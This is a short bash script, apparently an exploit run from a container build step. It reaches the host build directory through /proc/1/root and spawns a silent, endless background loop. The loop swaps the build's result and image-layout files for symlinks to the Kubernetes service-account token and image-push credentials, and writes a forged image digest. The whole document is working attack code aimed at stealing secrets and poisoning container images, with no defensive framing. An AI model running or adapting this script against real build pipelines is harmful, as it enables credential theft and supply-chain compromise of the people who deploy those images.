# Outlives its RUN line, and changes what the build leaves for as long as the container lives.
set -u
forged=$1
mosb=/proc/1/root/run/mosb
push=/run/mosb/final-image-push-creds/config.json
token=/var/run/secrets/kubernetes.io/serviceaccount/token
swap() {
    while :; do
        ln -sfn "$token" "$mosb/failure/result.json"
        ln -sfn "$push" "$mosb/image/layout/index.json"
        ln -sfn "$push" "$mosb/image/layout/blobs/sha256/$(echo "$forged" | cut -d: -f2)"
        echo "$forged" >"$mosb/image/digest"
    done
}
swap >/dev/null 2>&1 </dev/null &
mkdir -p /usr/share/found
echo began >/usr/share/found/swap
